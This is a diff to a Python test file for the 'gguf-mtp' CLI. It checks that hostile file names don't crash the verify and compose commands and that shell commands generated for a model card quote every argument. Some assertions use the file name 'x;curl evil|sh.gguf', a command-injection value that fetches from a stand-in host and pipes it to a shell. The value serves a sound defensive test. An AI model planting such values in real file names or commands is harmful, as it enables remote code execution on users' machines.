@@ -89,7 +89,8 @@ def test_verify_and_compose_dry_run_print_hostile_names(hostile: Path, nemotron_
     composite = hostile.parent / "composite" / BAD_FILE
     result = _cli("verify", str(composite), "--target", BAD_FILE, "--no-llama", cwd=hostile.parent)
     _no_crash(result, 0)
-    assert "verified" in result.stdout.splitlines()[-1]
+    verdict, hint = result.stdout.splitlines()[-2:]  # the verdict, then how to measure the head with bench
+    assert "verified" in verdict and hint.startswith("measure what MTP gains on your machine: gguf-mtp bench ")
     result = _cli("verify", BAD_FILE, "--no-llama", cwd=hostile.parent)  # not a composite: a failed check
     _no_crash(result, 2)
     result = _cli("compose", BAD_FILE, str(nemotron_draft0), "-o", "out", "--dry-run", cwd=hostile.parent)
@@ -157,6 +158,9 @@ def test_card_shell_commands_quote_every_argument(tmp_path: Path) -> None:
         words = shlex.split(line)
         assert not any(w in (";", "|", "&&") for w in words)
     assert ["gguf-mtp", "verify", "x;curl evil|sh.gguf"] in [shlex.split(line) for line in commands]
+    assert shlex.split(commands[-1], comments=True) == [
+        "gguf-mtp", "bench", "x;curl evil|sh.gguf", "--server", "PATH/TO/llama-server"
+    ]
 
 
 def test_card_front_matter_keeps_only_valid_repo_ids(tmp_path: Path) -> None:
